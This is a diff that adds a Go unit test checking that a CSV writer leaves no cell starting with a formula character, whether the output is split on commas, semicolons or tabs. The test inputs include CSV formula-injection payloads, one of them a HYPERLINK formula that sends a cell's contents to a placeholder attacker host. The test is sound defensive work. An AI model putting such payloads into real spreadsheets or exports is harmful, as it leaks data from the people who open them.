@@ -118,3 +118,23 @@ func FuzzCSV(f *testing.F) {
 		}
 	})
 }
+
+// Programs whose lists are separated by semicolons split cells elsewhere: no part becomes a formula there either.
+func TestNoFormulaForReadersOfSemicolons(t *testing.T) {
+	table := papers.Table{Columns: []string{"name", "org"}, Rows: [][]string{
+		{`Kim;=1+1`, "x"}, {`Kim; =HYPERLINK("https://evil.example/?x="&A1;"see")`, "x"}, {"Kim", "Org\n=1+1"}, {`a";"@SUM(1)`, "b\t+1"},
+	}}
+	var b bytes.Buffer
+	if err := papers.WriteCSV(&b, table); err != nil {
+		t.Fatal(err)
+	}
+	for _, comma := range []rune{',', ';', '\t'} {
+		for line := range strings.Lines(strings.TrimPrefix(b.String(), "\uFEFF")) {
+			for part := range strings.SplitSeq(line, string(comma)) {
+				if trimmed := strings.TrimLeft(part, " \""); trimmed != "" && strings.ContainsRune("=+-@", rune(trimmed[0])) {
+					t.Errorf("separated by %q a cell is %s", comma, part)
+				}
+			}
+		}
+	}
+}
